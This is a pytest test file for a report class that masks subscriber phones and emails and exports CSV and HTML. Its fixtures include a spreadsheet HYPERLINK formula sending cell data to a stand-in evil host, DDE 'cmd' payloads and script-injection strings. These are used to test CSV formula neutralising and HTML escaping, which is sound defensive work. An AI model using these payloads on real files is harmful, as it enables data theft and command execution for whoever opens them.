"""SendReport: table, masking, summary, failed rows, CSV and the notebook views."""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pytest

from attentive_nb.plan.phones import written_problem
from attentive_nb.report import STATUSES, RowOutcome, SendReport
from attentive_nb.report.masking import mask_email, mask_identifiers, mask_other, mask_phone
from attentive_nb.report.summary import reason_key

BAD_PHONE = "phone '555-0100' is not a valid number for region US"


def _data() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "phone": ["+12015550123", "555-0100", "+12015550124", "+12015550125"],
            "email": ["jane.doe@example.com", "bob@example.org", "<script>x</script>", None],
            "name": ["Jane", "Bob", "<script>alert(1)</script>", "Al"],
        },
        index=["r1", "r2", "r1", "r4"],  # a duplicate label on purpose
    )


def _report(outcomes=None, **kwargs) -> SendReport:
    data = _data()
    outcomes = outcomes or [
        RowOutcome(0, "sent", 202, "", 1, 12.5),
        RowOutcome(1, "invalid", None, BAD_PHONE),
        RowOutcome(2, "rejected", 400, "Invalid email <script>", 1, 8.0),
        RowOutcome(3, "unknown", None, "no answer after 30 s", 3),
    ]
    kwargs.setdefault("kind", "subscribe")
    return SendReport(data, data[["phone", "email"]], outcomes, **kwargs)


def test_table_columns_dtypes_and_order():
    table = _report().table
    assert list(table.columns) == [
        "status",
        "http_status",
        "reason",
        "attempts",
        "latency_ms",
        "phone",
        "email",
    ]
    assert [str(t) for t in table.dtypes] == [
        "str",
        "Int64",
        "str",
        "int64",
        "float64",
        "str",
        "str",
    ]
    assert list(table.index) == ["r1", "r2", "r1", "r4"]
    assert table["status"].tolist() == ["sent", "invalid", "rejected", "unknown"]
    assert table["http_status"].tolist() == [202, pd.NA, 400, pd.NA]
    assert table["reason"].tolist() == [
        "",
        "phone '55•••00' is not a valid number for region US",  # masked like the phone column
        "Invalid email <script>",
        "no answer after 30 s",
    ]
    assert table["attempts"].tolist() == [1, 0, 1, 3]
    assert table["latency_ms"].tolist()[:1] == [12.5]
    assert np.isnan(table["latency_ms"].iloc[1])


def test_table_masks_identifiers_and_unmasked_does_not():
    report = _report()
    assert report.table["phone"].tolist() == [
        "+1201•••0123",
        "55•••00",
        "+1201•••0124",
        "+1201•••0125",
    ]
    assert report.table["email"].tolist()[:2] == ["j•••@example.com", "b•••@example.org"]
    assert pd.isna(report.table["email"].iloc[3])
    clear = report.table_unmasked()
    assert clear["phone"].tolist() == _data()["phone"].tolist()
    assert list(clear.columns) == list(report.table.columns)


def test_reasons_mask_the_values_they_quote_like_the_identifier_columns(tmp_path):
    ids = pd.DataFrame(
        {
            "phone": ["555-0142", None, "+12015550123"],
            "email": [None, "rosa.delgado.example.com", None],
        }
    )
    outcomes = [
        RowOutcome(0, "invalid", message="phone '555-0142' is not a valid number for region US"),
        RowOutcome(1, "invalid", message="email 'rosa.delgado.example.com' has no '@'"),
        RowOutcome(2, "rejected", 400, "'+12015550123' was refused; '555-0142' is another row's"),
    ]
    report = SendReport(ids, ids, outcomes, kind="subscribers")
    masked = [
        "phone '55•••42' is not a valid number for region US",
        "email 'ro•••' has no '@'",
        "'+1201•••0123' was refused; '555-0142' is another row's",  # only the row's own values
    ]
    assert report.table["reason"].tolist() == masked
    assert report.table_unmasked()["reason"].tolist() == [o.message for o in outcomes]
    text = report.to_csv(tmp_path / "masked.csv").read_text(encoding="utf-8")
    assert "rosa.delgado" not in text and "'555-0142' is not" not in text and "55•••42" in text
    clear = report.to_csv(tmp_path / "clear.csv", unmasked=True).read_text(encoding="utf-8")
    assert "rosa.delgado.example.com" in clear
    page = report._repr_html_()
    assert "rosa" not in page and "55•••42&#x27; is not a valid number" in page


def test_outcomes_may_arrive_in_any_order():
    outcomes = [RowOutcome(i, "sent") for i in (3, 1, 0, 2)]
    outcomes[0] = RowOutcome(3, "failed", 503, "server error", 5)
    assert _report(outcomes).table["status"].tolist() == ["sent", "sent", "sent", "failed"]


@pytest.mark.parametrize(
    "positions", [(0, 1, 2), (0, 1, 2, 3, 3), (0, 1, 2, 4)], ids=["missing", "repeated", "out"]
)
def test_outcomes_must_cover_each_position_once(positions):
    with pytest.raises(ValueError, match="position"):
        _report([RowOutcome(p, "sent") for p in positions])


def test_unknown_status_is_a_programming_error():
    with pytest.raises(ValueError, match="unknown statuses"):
        _report([RowOutcome(p, "done") for p in range(4)])


def test_table_is_protected_from_edits():
    report = _report()
    table = report.table
    table.loc["r4", "status"] = "sent"
    assert table["status"].iloc[3] == "sent"
    assert report.table["status"].iloc[3] == "unknown"


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ("+12015550123", "+1201•••0123"),
        ("+447911123456", "+4479•••3456"),
        ("2015550123", "20•••23"),  # short values show less
        ("+4479111", "+4•••11"),
        ("12345", "•••"),
        ("", ""),
        (None, None),
        (np.nan, None),
    ],
)
def test_mask_phone(value, masked):
    out = mask_phone(pd.Series([value], dtype=object)).iloc[0]
    assert (pd.isna(out) and masked is None) or out == masked


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ("jane.doe@example.com", "j•••@example.com"),
        ("abc@example.com", "a•••@example.com"),
        ("ab@example.com", "•••@example.com"),
        ("a@example.com", "•••@example.com"),
        ("@example.com", "•••@example.com"),
        ('"a@b"@example.com', "•••@example.com"),  # the domain follows the last "@"
        ('"abc@d"@example.com', '"•••@example.com'),
        ("no-at-sign", "no•••"),
        ("abc", "•••"),
        ("", ""),
        (None, None),
    ],
)
def test_mask_email(value, masked):
    out = mask_email(pd.Series([value], dtype=object)).iloc[0]
    assert (pd.isna(out) and masked is None) or out == masked


@pytest.mark.parametrize(
    ("value", "masked"),
    [("cust-9876", "cu•••"), (1234567, "12•••"), ("abcd", "•••"), ("", ""), (None, None)],
)
def test_mask_other(value, masked):
    out = mask_other(pd.Series([value], dtype=object)).iloc[0]
    assert (pd.isna(out) and masked is None) or out == masked


def test_mask_identifiers_keeps_index_and_picks_the_rule_by_column():
    ids = pd.DataFrame(
        {
            "phone": ["+12015550123"] * 2,
            "email": ["jo@x.io", "jane@x.io"],
            "shopifyId": [42, 123456],
        },
        index=["a", "a"],
    )
    expected = pd.DataFrame(
        {
            "phone": ["+1201•••0123"] * 2,
            "email": ["•••@x.io", "j•••@x.io"],
            "shopifyId": ["•••", "12•••"],
        },
        index=["a", "a"],
    )
    pd.testing.assert_frame_equal(mask_identifiers(ids), expected)


def test_reason_key_strips_quoted_values():
    assert reason_key(BAD_PHONE) == "phone is not a valid number for region US"
    assert reason_key('email "x@" is  not valid') == "email is not valid"
    assert reason_key("same as row 3 (2026-12-07 03:02)") == "same as row … (…)"


def test_counts_ok_and_summary():
    report = _report()
    assert report.counts == dict.fromkeys(STATUSES, 0) | {
        "sent": 1,
        "invalid": 1,
        "rejected": 1,
        "unknown": 1,
    }
    assert report.ok is False
    summary = report.summary
    assert list(summary.columns) == ["status", "rows", "meaning", "top_reasons"]
    assert summary["status"].tolist() == ["sent", "invalid", "rejected", "unknown", "total"]
    assert summary["rows"].tolist() == [1, 1, 1, 1, 4]
    assert summary["top_reasons"].tolist() == [  # text, not Python lists
        "",
        "1 row: phone is not a valid number for region US",
        "1 row: Invalid email <script>",
        "1 row: no answer after 30 s",
        "",
    ]
    unknown = summary.set_index("status").loc["unknown", "meaning"]
    assert "may have reached Attentive" in unknown and "check these people" in unknown


def test_counts_show_the_statuses_that_happened_and_still_hold_every_status():
    counts = _report().counts
    assert repr(counts) == "sent 1, invalid 1, rejected 1, unknown 1 (4 rows)"
    assert counts["skipped"] == 0 and list(counts) == list(STATUSES)
    assert repr(SendReport(pd.DataFrame(), None, [], kind="events").counts) == "no rows"


def test_verdict_is_one_line_in_words():
    from attentive_nb.report.html import verdict

    assert verdict(_report(kind="subscribers", sandbox=True)) == (
        "Subscribers, 4 rows: sent 1, invalid 1, rejected 1, unknown 1 (a sandbox, not Attentive)"
    )
    dry = _report([RowOutcome(i, "would_send") for i in range(4)], dry_run=True, kind="events")
    assert verdict(dry) == "Dry run of events, 4 rows: would_send 4"


def test_to_csv_says_what_it_saved(tmp_path):
    saved = _report().to_csv(tmp_path / "r.csv")
    assert repr(saved) == f"Saved 4 rows to {tmp_path / 'r.csv'} (identifiers masked)"
    assert saved == tmp_path / "r.csv" and saved.read_text(encoding="utf-8")  # still a path
    clear = _report().to_csv(tmp_path / "c.csv", unmasked=True)
    assert repr(clear) == f"Saved 4 rows to {tmp_path / 'c.csv'} (identifiers in clear)"


def test_summary_groups_reasons_and_caps_them():
    reasons = [f"phone '{i}' is not a valid number; email '{i}' is empty" for i in range(312)]
    reasons += [f"field{i} is odd" for i in range(7) for _ in range(i + 1)]
    data = pd.DataFrame({"x": range(len(reasons))})
    outcomes = [RowOutcome(i, "invalid", message=m) for i, m in enumerate(reasons)]
    report = SendReport(data, None, outcomes, kind="events")
    assert report.summary["top_reasons"].iloc[0] == "; ".join(
        [
            "312 rows: email is empty",
            "312 rows: phone is not a valid number",
            "7 rows: field6 is odd",
            "6 rows: field5 is odd",
            "5 rows: field4 is odd",
            "10 rows: 4 other reasons",
        ]
    )
    assert report.reasons["rows"].sum() == 312 * 2 + 28


def _grouped(status: str, reasons: list[str]) -> SendReport:
    data = pd.DataFrame({"x": range(len(reasons))})
    outcomes = [RowOutcome(i, status, message=m) for i, m in enumerate(reasons)]
    return SendReport(data, None, outcomes, kind="subscribers")


def test_reasons_differing_only_in_times_and_run_numbers_are_one_group():
    reasons = [
        f"this person's phone was already subscribed in an earlier run (process {pid}, "
        f"started 2026-12-0{day} 0{h}:{m:02d}; recorded 2026-12-0{day} 0{h}:{m:02d}), "
        "whatever else in the row changed; resend=True sends it again"
        for pid, day, h, m in [(12, 1, 3, 2), (13, 1, 3, 3), (4021, 2, 9, 59)] * 55
    ]
    reasons += [f"already accepted in an earlier run (2026-12-07 03:{m:02d})" for m in range(8)]
    report = _grouped("skipped", reasons)
    assert report.reasons.to_dict("list") == {
        "status": ["skipped", "skipped"],
        "reason": [
            "this person's phone was already subscribed in an earlier run (process …, started "
            "…; recorded …), whatever else in the row changed; resend=True sends it again",
            "already accepted in an earlier run (…)",
        ],
        "rows": [165, 8],
    }
    assert "other reasons" not in report.summary["top_reasons"].iloc[0]


def test_row_numbers_are_taken_out_of_a_reason_group():
    reasons = [f"same person as row {i}: one request carries both" for i in range(9)]
    report = _grouped("sent", reasons)
    assert report.reasons["reason"].tolist() == ["same person as row …: one request carries both"]
    assert report.reasons["rows"].tolist() == [9]


def test_a_number_every_row_shares_is_shown_and_words_with_digits_are_kept():
    reasons = ["no answer after 30 s"] * 3 + ["field6 is not E.164; U+200B in 4xx"] * 2
    report = _grouped("invalid", reasons)
    assert set(report.reasons["reason"]) == {
        "no answer after 30 s",
        "field6 is not E.164",
        "U+200B in 4xx",
    }


def test_joined_reasons_group_part_by_part_without_their_numbers():
    reasons = [f"same email as row {i}; points '{i}' is not a number" for i in range(4)]
    report = _grouped("invalid", reasons)
    assert sorted(report.reasons["reason"]) == ["points is not a number", "same email as row …"]
    assert report.reasons["rows"].tolist() == [4, 4]


def test_ok_when_everything_is_done():
    outcomes = [RowOutcome(0, "sent"), RowOutcome(1, "skipped"), RowOutcome(2, "sent")]
    outcomes.append(RowOutcome(3, "skipped", message="accepted in an earlier run"))
    report = _report(outcomes)
    assert report.ok and report.to_retry.empty
    assert report.summary["status"].tolist() == ["sent", "skipped", "total"]


def test_failed_keeps_input_columns_and_index():
    report = _report()
    expected = _data().iloc[[1, 2, 3]]
    pd.testing.assert_frame_equal(report.to_retry, expected)
    with_reasons = report.to_retry_with_reasons()
    assert list(with_reasons.columns) == ["phone", "email", "name", "status", "reason"]
    assert with_reasons["status"].tolist() == ["invalid", "rejected", "unknown"]


def test_to_retry_with_reasons_does_not_overwrite_an_input_status_column():
    data = pd.DataFrame({"status": ["vip"]})
    report = SendReport(data, None, [RowOutcome(0, "failed", 503, "busy")], kind="attributes")
    out = report.to_retry_with_reasons()
    assert out.to_dict("list") == {"status": ["vip"], "status_2": ["failed"], "reason": ["busy"]}


def test_identifier_named_like_a_report_column_is_renamed():
    data = pd.DataFrame({"a": [1]})
    ids = pd.DataFrame({"status": ["gold-member"]})
    report = SendReport(data, ids, [RowOutcome(0, "sent")], kind="subscribe")
    assert report.table.columns[-1] == "status_2"
    assert report.table["status_2"].iloc[0] == "go•••"


def test_to_csv_round_trip(tmp_path):
    report = _report()
    path = report.to_csv(tmp_path / "report.csv", raw=True)
    back = pd.read_csv(path, index_col=0, keep_default_na=False, dtype={"http_status": "Int64"})
    assert back.index.tolist() == ["r1", "r2", "r1", "r4"]
    assert back["phone"].tolist() == report.table["phone"].tolist()
    assert back["http_status"].tolist() == [202, pd.NA, 400, pd.NA]
    assert "12015550123" not in path.read_text(encoding="utf-8")
    clear = report.to_csv(tmp_path / "clear.csv", unmasked=True).read_text(encoding="utf-8")
    assert "'+12015550123" in clear


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_report() -> SendReport:
    data = pd.DataFrame(
        {"phone": ["+12015550123", "-12015550100"], "note": ["@SUM(1+1)", "\t=1+1"]},
        index=[HOSTILE, "\r=cmd|' /C calc'!A0"],
    )
    outcomes = [
        RowOutcome(0, "sent", 202, "", 1, 1.0),
        RowOutcome(1, "rejected", 400, "+cmd|' /C calc'!A0"),
    ]
    ids = data[["phone"]].rename(columns={"phone": "=phone"})
    return SendReport(data, ids, outcomes, kind="subscribe")


def _cells(path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("unmasked", [False, True])
def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote(tmp_path, unmasked):
    report = _hostile_report()
    cells = _cells(report.to_csv(tmp_path / "r.csv", unmasked=unmasked))
    assert f"'{HOSTILE}" in cells and "'+cmd|' /C calc'!A0" in cells and "'=phone" in cells
    assert "'\r=cmd|' /C calc'!A0" in cells
    phones = ["'+12015550123", "'-12015550100"] if unmasked else ["'+1•••", "'-1•••"]
    assert set(phones) <= set(cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert report.table.index[0] == HOSTILE  # the DataFrame itself stays raw
    assert report.table["reason"].iloc[1] == "+cmd|' /C calc'!A0"


def test_csv_raw_writes_every_value_as_it_is(tmp_path):
    cells = _cells(_hostile_report().to_csv(tmp_path / "r.csv", unmasked=True, raw=True))
    assert {HOSTILE, "+cmd|' /C calc'!A0", "=phone", "+12015550123"} <= set(cells)


def test_repr_is_a_short_summary():
    assert repr(_report()) == (
        "<SendReport subscribe: 4 rows — sent 1, invalid 1, rejected 1, unknown 1>"
    )
    outcomes = [RowOutcome(i, "would_send") for i in range(4)]
    dry = _report(outcomes, dry_run=True, sandbox=True)
    assert repr(dry) == "<SendReport subscribe (dry run) [sandbox]: 4 rows — would_send 4>"


def test_html_escapes_hostile_values_and_masks():
    data = _report(company="<b>Acme</b>", notes=["column '<img src=x>' not used"])
    page = data._repr_html_()
    assert "<script" not in page and "<img" not in page and "<b>Acme" not in page
    assert "Invalid email &lt;script&gt;" in page and "&lt;b&gt;Acme" in page
    assert "&lt;s•••" in page  # the hostile email, masked then escaped
    assert "+12015550123" not in page and "jane.doe@" not in page
    assert "+1201•••0123" in page
    assert "Sandbox" not in page and "Dry run" not in page
    assert "may have reached Attentive" in page
    assert "3 rows need attention" in page


def test_html_banner_dry_run_line_and_cap():
    n = 1000
    data = pd.DataFrame({"phone": [f"+1201555{i:04d}" for i in range(n)]})
    outcomes = [RowOutcome(i, "would_send") for i in range(n - 2)]
    outcomes += [RowOutcome(n - 2, "invalid", message="x"), RowOutcome(n - 1, "invalid")]
    report = SendReport(data, data, outcomes, kind="subscribe", dry_run=True, sandbox=True)
    page = report._repr_html_()
    assert "Sandbox: nothing was sent to Attentive" in page
    assert "Dry run: nothing was sent. 998 rows would be sent." in page
    assert page.count("<tr>") == 1 + 3 + 1 + 20  # summary head + 3 statuses + head + 20 rows
    assert "first 20 of 1,000 rows" in page
    assert "<script" not in page


def test_empty_input():
    report = SendReport(pd.DataFrame({"phone": []}), None, [], kind="subscribe")
    assert report.ok and len(report.table) == 0 and report.reasons.empty
    assert report.summary["status"].tolist() == ["total"]
    assert repr(report) == "<SendReport subscribe: 0 rows>"
    assert "0 rows" in report._repr_html_()


def test_identifiers_must_match_the_data():
    with pytest.raises(ValueError, match="identifiers have 1 rows"):
        SendReport(_data(), _data().iloc[:1], [], kind="subscribe")


def test_a_big_report_builds_from_column_arrays():
    n = 20_000
    ids = pd.DataFrame(
        {
            "phone": [f"+1201555{i % 10000:04d}" for i in range(n)],
            "email": [f"user{i}@example.com" for i in range(n)],
        }
    )
    cycle = [("sent", 202, "")] * 10 + [("invalid", None, BAD_PHONE), ("rejected", 400, "nope")]
    outcomes = [RowOutcome(i, *cycle[i % 12], attempts=1) for i in range(n)]
    report = SendReport(ids, ids, outcomes, kind="subscribe")
    table, summary, page = report.table, report.summary, report._repr_html_()
    assert len(table) == n and summary["rows"].iloc[-1] == n and len(page) < 50_000
    assert report.counts["invalid"] == len(report.to_retry) - report.counts["rejected"]
    assert (report.counts["sent"], report.counts["invalid"]) == (16_668, 1_666)
    assert summary["top_reasons"].iloc[1] == "1,666 rows: phone is not a valid number for region US"
    assert table["phone"].iloc[0] == "+1201•••0000"


def test_failed_is_a_deprecated_name_for_to_retry():
    report = SendReport(
        pd.DataFrame({"x": [1, 2]}),
        None,
        [RowOutcome(0, "sent"), RowOutcome(1, "invalid", message="bad")],
        kind="subscribers",
    )
    with pytest.warns(DeprecationWarning, match="to_retry"):
        old = report.failed
    pd.testing.assert_frame_equal(old, report.to_retry)


def test_a_reason_keeps_the_character_it_names_once_the_value_is_taken_out():
    # Seen in a summary: "phone contains, which a phone number cannot have" (the comma
    # named was taken out with the value).
    reason = f"phone '555,0100' {written_problem('555,0100')}"
    assert reason_key(reason).startswith("phone contains ',', which a phone number cannot have")


def test_html_a_bulk_job_id_may_break_so_the_table_fits_a_laptop_and_short_words_never():
    job = "81a29f6ca41c4cae8b2b7f39c70c35ba"
    outcomes = [RowOutcome(0, "submitted", 202, f"in bulk job {job}, accepted")]
    outcomes += [RowOutcome(i, "sent", 202, "Member processed") for i in (1, 2, 3)]
    page = _report(outcomes)._repr_html_()
    cells = re.findall(r'<td style="([^"]*)">([^<]*)</td>', page)
    breakable = {text for style, text in cells if "overflow-wrap:anywhere" in style}
    assert breakable and all(job in text for text in breakable)
    assert any(text == "Member processed" for _, text in cells)
